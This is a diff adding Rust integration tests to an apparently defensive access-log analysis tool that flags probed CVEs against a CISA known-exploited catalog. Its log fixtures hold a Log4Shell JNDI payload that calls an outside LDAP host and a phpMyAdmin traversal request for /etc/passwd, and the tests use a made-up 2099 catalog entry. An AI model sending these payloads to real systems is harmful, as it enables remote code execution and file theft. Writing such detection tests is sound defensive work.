@@ -349,3 +349,181 @@ fn an_affected_installed_version_makes_the_probe_urgent_the_fixed_one_relevant()
         .expect("CVE listed");
     assert_eq!(c["affected"], false, "{c}");
 }
+
+/// A Log4Shell probe is reported known exploited from the shipped KEV list alone: no
+/// advisory database, no store; a probed CVE outside the catalog is not.
+#[test]
+fn probed_cves_are_flagged_known_exploited_without_any_import() {
+    let dir = tempfile::tempdir().unwrap();
+    let log = dir.path().join("access.log");
+    std::fs::write(
+        &log,
+        "203.0.113.8 - - [03/Nov/2025:00:00:01 +0100] \"GET / HTTP/1.1\" 200 512 \"-\" \"${jndi:ldap://198.51.100.7:1389/a}\"\n\
+         203.0.113.9 - - [03/Nov/2025:00:00:02 +0100] \"GET /phpmyadmin/index.php?target=db_sql.php%253f/../../../../etc/passwd HTTP/1.1\" 404 0 \"-\" \"curl/8\"\n",
+    )
+    .unwrap();
+    let run = |format: &str| {
+        let out = scantriage()
+            .args(["analyze", "--no-store", "--no-progress", "--output", format])
+            .arg(&log)
+            .output()
+            .unwrap();
+        assert!(
+            out.status.success(),
+            "{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        String::from_utf8(out.stdout).unwrap()
+    };
+    let json = run("json");
+    let summary: Value = serde_json::from_str(json.lines().last().unwrap()).unwrap();
+    let probed = summary["summary"]["cves_probed"].as_array().unwrap();
+    let get = |id: &str| {
+        probed
+            .iter()
+            .find(|c| c["cve"] == id)
+            .unwrap_or_else(|| panic!("{id} not in {probed:?}"))
+    };
+    let log4shell = get("CVE-2021-44228");
+    assert_eq!(log4shell["known_exploited"], true, "{log4shell}");
+    assert_eq!(log4shell["affected"], false, "{log4shell}");
+    let pma = get("CVE-2018-12613");
+    assert_eq!(pma["known_exploited"], false, "{pma}");
+
+    let table = run("table");
+    let kev = probed
+        .iter()
+        .filter(|c| c["known_exploited"] == true)
+        .count();
+    let header = format!("CVES PROBED ({}, {kev} known exploited;", probed.len());
+    assert!(table.contains(&header), "{header} not in {table}");
+    let line = table
+        .lines()
+        .find(|l| l.contains("CVE-2021-44228"))
+        .expect("Log4Shell in the terminal report");
+    assert!(line.contains("known exploited"), "{line}");
+    let line = table
+        .lines()
+        .find(|l| l.contains("CVE-2018-12613"))
+        .unwrap();
+    assert!(!line.contains("known exploited"), "{line}");
+}
+
+/// `rules coverage` counts the shipped KEV list's web-exposed entries that signatures
+/// name; the pack covers at least half of those added since 2022, and the listed
+/// missing entries are exactly the uncovered ones.
+#[test]
+fn rules_coverage_counts_web_exposed_kev_entries() {
+    let out = scantriage()
+        .args(["rules", "coverage", "--since", "2022", "--output", "json"])
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let c: Value = serde_json::from_slice(&out.stdout).unwrap();
+    let web = c["web"].as_u64().unwrap();
+    let covered = c["covered"].as_u64().unwrap();
+    assert!(web > 300, "{web} web-exposed entries since 2022");
+    assert!(covered * 2 >= web, "{covered} of {web} covered");
+    assert_eq!(c["missing"].as_array().unwrap().len() as u64, web - covered);
+    // Entries the pack names: Citrix Bleed and the GoAnywhere license servlet.
+    let sigs = &c["signatures"];
+    assert!(sigs["CVE-2023-4966"].is_array(), "{sigs}");
+    assert!(sigs["CVE-2023-0669"][0] == "goanywhere-license-deserialization");
+    let years: Vec<&str> = c["by_year"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|y| y["year"].as_str().unwrap())
+        .collect();
+    assert_eq!(years.first(), Some(&"2022"), "{years:?}");
+    assert!(years.windows(2).all(|w| w[0] < w[1]), "{years:?}");
+
+    let table = scantriage()
+        .args(["rules", "coverage", "--missing"])
+        .output()
+        .unwrap();
+    let text = String::from_utf8(table.stdout).unwrap();
+    assert!(text.starts_with("KEV catalog "), "{text}");
+    assert!(text.contains("NOT COVERED ("), "{text}");
+}
+
+/// A catalog imported into the store flags CVEs the shipped list does not hold yet (a
+/// local rule names a CVE id from the future).
+#[test]
+fn an_imported_kev_catalog_extends_the_shipped_list() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("s.db").display().to_string();
+    let rules = dir.path().join("rules");
+    std::fs::create_dir(&rules).unwrap();
+    std::fs::write(
+        rules.join("local.toml"),
+        r#"[[rule]]
+id = "future-appliance-rce"
+name = "Future appliance RCE"
+description = "A probe for an entry newer than the shipped list."
+targets = ["generic"]
+cves = ["CVE-2099-4242"]
+category = "exploit"
+severity = "critical"
+path = { contains = ["/future-appliance/rce"] }
+[[rule.examples.match]]
+request = "GET /future-appliance/rce HTTP/1.1"
+[[rule.examples.no_match]]
+request = "GET / HTTP/1.1"
+"#,
+    )
+    .unwrap();
+    let kev = dir.path().join("kev.json");
+    std::fs::write(
+        &kev,
+        r#"{"title":"CISA Catalog of Known Exploited Vulnerabilities","catalogVersion":"2099.01.01",
+"dateReleased":"2099-01-01T00:00:00Z","count":1,"vulnerabilities":[{"cveID":"CVE-2099-4242",
+"vendorProject":"Future","product":"Appliance","vulnerabilityName":"Future Appliance RCE",
+"dateAdded":"2099-01-01","shortDescription":"x","requiredAction":"x","dueDate":"2099-01-22",
+"knownRansomwareCampaignUse":"Unknown","notes":"","cwes":[]}]}"#,
+    )
+    .unwrap();
+    let cfg = config(
+        dir.path(),
+        "dpkg-status-fixed",
+        &format!("[rules]\ndirs = [\"{}\"]\n", rules.display()),
+    );
+    // A new log per run: the store remembers how far each input was read.
+    let analyse = |n: u8| {
+        let log = dir.path().join(format!("access-{n}.log"));
+        std::fs::write(
+            &log,
+            format!("203.0.113.{n} - - [03/Nov/2025:00:00:0{n} +0100] \"GET /future-appliance/rce HTTP/1.1\" 404 0 \"-\" \"curl/8\"\n"),
+        )
+        .unwrap();
+        let out = scantriage()
+            .args(["analyze", "--config", &cfg, "--db", &db, "--no-progress"])
+            .args(["--output", "json"])
+            .arg(&log)
+            .output()
+            .unwrap();
+        assert!(
+            out.status.success(),
+            "{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        let text = String::from_utf8(out.stdout).unwrap();
+        let last: Value = serde_json::from_str(text.lines().last().unwrap()).unwrap();
+        let probed = last["summary"]["cves_probed"].as_array().unwrap().clone();
+        probed
+            .into_iter()
+            .find(|c| c["cve"] == "CVE-2099-4242")
+            .unwrap_or_else(|| panic!("the local rule's CVE is not listed: {text}"))
+    };
+    assert_eq!(analyse(1)["known_exploited"], false);
+    scantriage()
+        .args(["vulndb", "import", "--db", &db])
+        .arg(&kev)
+        .assert()
+        .success();
+    assert_eq!(analyse(2)["known_exploited"], true);
+}
